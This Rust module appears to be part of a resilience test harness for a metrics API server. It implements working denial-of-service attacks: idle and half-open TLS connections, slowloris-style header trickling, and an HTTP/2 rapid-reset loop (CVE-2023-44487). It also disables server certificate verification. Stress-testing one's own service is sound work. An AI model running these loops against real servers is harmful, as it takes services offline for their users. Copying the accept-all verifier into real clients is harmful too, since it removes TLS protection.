//! What someone without credentials can do with connections.

use std::future::Future;
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use anyhow::{Context as _, Result};
use http::Request;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::sleep;
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;
use tokio_rustls::rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
use tokio_rustls::rustls::crypto::aws_lc_rs;
use tokio_rustls::rustls::pki_types::{CertificateDer, ServerName, UnixTime};
use tokio_rustls::rustls::{ClientConfig, DigitallySignedStruct, Error, SignatureScheme};

/// Before someone who was sent away comes again.
const AGAIN: Duration = Duration::from_millis(100);
/// Streams that are reset together: the frames that open them must be on the wire first.
const BATCH: usize = 50;
const BATCH_PAUSE: Duration = Duration::from_millis(5);

/// The attackers' aim.
#[derive(Clone)]
pub(super) struct Attack {
    target: SocketAddr,
    tls: TlsConnector,
    score: Arc<Score>,
}

/// What they did.
#[derive(Debug, Default)]
pub(super) struct Score {
    pub(super) idle: Tally,
    pub(super) half_open: Tally,
    pub(super) slow: Tally,
    pub(super) rapid: Tally,
    pub(super) continuation: Tally,
    pub(super) ping: Tally,
    pub(super) settings: Tally,
    resets: AtomicUsize,
}

/// Connections of one kind.
#[derive(Debug, Default)]
pub(super) struct Tally {
    opened: AtomicUsize,
    closed: AtomicUsize,
}

/// Believes everyone.
#[derive(Debug)]
struct Anyone;

// === impl Attack ===

impl Attack {
    pub(super) fn new(target: SocketAddr, score: Arc<Score>) -> Result<Self> {
        let provider = Arc::new(aws_lc_rs::default_provider());
        let mut config = ClientConfig::builder_with_provider(provider)
            .with_safe_default_protocol_versions()?
            .dangerous()
            .with_custom_certificate_verifier(Arc::new(Anyone))
            .with_no_client_auth();
        config.alpn_protocols = vec![b"h2".to_vec()];
        Ok(Self {
            target,
            tls: Arc::new(config).into(),
            score,
        })
    }

    /// So many that do the same, each again and again.
    pub(super) fn launch<F>(&self, attackers: &mut JoinSet<()>, count: usize, what: fn(Self) -> F)
    where
        F: Future<Output = Result<()>> + Send + 'static,
    {
        for _ in 0..count {
            let attack = self.clone();
            attackers.spawn(async move {
                loop {
                    // Being sent away is what they expect.
                    let _ = what(attack.clone()).await;
                    sleep(AGAIN).await;
                }
            });
        }
    }

    /// Says nothing once it may speak.
    pub(super) async fn idle(self) -> Result<()> {
        let mut stream = self.connect().await?;
        self.score.idle.open();
        let mut rest = [0; 1024];
        // Whether with a farewell or without.
        while stream.read(&mut rest).await.unwrap_or(0) > 0 {}
        self.score.idle.close();
        Ok(())
    }

    /// Begins a handshake and leaves it there.
    pub(super) async fn half_open(self) -> Result<()> {
        let mut stream = TcpStream::connect(self.target).await?;
        // A record of 512 bytes with a ClientHello, of which the beginning comes.
        stream
            .write_all(&[0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03])
            .await?;
        self.score.half_open.open();
        let mut rest = [0; 1024];
        while stream.read(&mut rest).await.unwrap_or(0) > 0 {}
        self.score.half_open.close();
        Ok(())
    }

    /// A head that comes in drops.
    pub(super) async fn slow_head(self) -> Result<()> {
        let tcp = TcpStream::connect(self.target).await?;
        let mut config = self.tls.config().as_ref().clone();
        config.alpn_protocols = vec![b"http/1.1".to_vec()];
        let mut stream = TlsConnector::from(Arc::new(config)).connect(name()?, tcp).await?;
        self.score.slow.open();
        stream.write_all(b"GET /apis HTTP/1.1\r\nHost: x\r\n").await?;
        let mut rest = [0; 1024];
        loop {
            tokio::select! {
                read = stream.read(&mut rest) => if read.unwrap_or(0) == 0 { break },
                () = sleep(Duration::from_millis(500)) => {
                    if stream.write_all(b"X-A: b\r\n").await.is_err() { break }
                }
            }
        }
        self.score.slow.close();
        Ok(())
    }

    /// Opens streams and resets them before they can be answered (CVE-2023-44487).
    pub(super) async fn rapid_reset(self) -> Result<()> {
        let (mut sender, connection) = h2::client::handshake(self.connect().await?).await?;
        self.score.rapid.open();
        let connection = tokio::spawn(connection);
        let path = "https://x/apis/custom.metrics.k8s.io/v1beta2/namespaces/default/pods/*/attack";
        let outcome: Result<()> = async {
            loop {
                let mut streams = Vec::with_capacity(BATCH);
                for _ in 0..BATCH {
                    sender = sender.ready().await?;
                    streams.push(sender.send_request(Request::get(path).body(())?, true)?);
                }
                tokio::task::yield_now().await;
                for (_, stream) in &mut streams {
                    stream.send_reset(h2::Reason::CANCEL);
                }
                self.score.resets.fetch_add(BATCH, Ordering::Relaxed);
                drop(streams);
                sleep(BATCH_PAUSE).await;
            }
        }
        .await;
        self.score.rapid.close();
        connection.abort();
        outcome
    }

    pub(super) async fn connect(&self) -> Result<TlsStream<TcpStream>> {
        let stream = TcpStream::connect(self.target).await?;
        self.tls.connect(name()?, stream).await.context("TLS")
    }

    pub(super) fn score(&self) -> &Score {
        &self.score
    }
}

fn name() -> Result<ServerName<'static>> {
    ServerName::try_from("metricrule").context("a name")
}

// === impl Score ===

impl Score {
    pub(super) fn tallies(&self) -> [(&'static str, &Tally); 7] {
        [
            ("idle after the handshake", &self.idle),
            ("half a ClientHello", &self.half_open),
            ("a head in drops", &self.slow),
            ("rapid reset", &self.rapid),
            ("CONTINUATION flood", &self.continuation),
            ("PING flood", &self.ping),
            ("SETTINGS flood", &self.settings),
        ]
    }

    pub(super) fn resets(&self) -> usize {
        self.resets.load(Ordering::Relaxed)
    }
}

// === impl Tally ===

impl Tally {
    pub(super) fn open(&self) {
        self.opened.fetch_add(1, Ordering::Relaxed);
    }

    pub(super) fn close(&self) {
        self.closed.fetch_add(1, Ordering::Relaxed);
    }

    pub(super) fn opened(&self) -> usize {
        self.opened.load(Ordering::Relaxed)
    }

    pub(super) fn closed(&self) -> usize {
        self.closed.load(Ordering::Relaxed)
    }
}

// === impl Anyone ===

impl ServerCertVerifier for Anyone {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: UnixTime,
    ) -> Result<ServerCertVerified, Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn verify_tls13_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, Error> {
        Ok(HandshakeSignatureValid::assertion())
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        aws_lc_rs::default_provider()
            .signature_verification_algorithms
            .supported_schemes()
    }
}
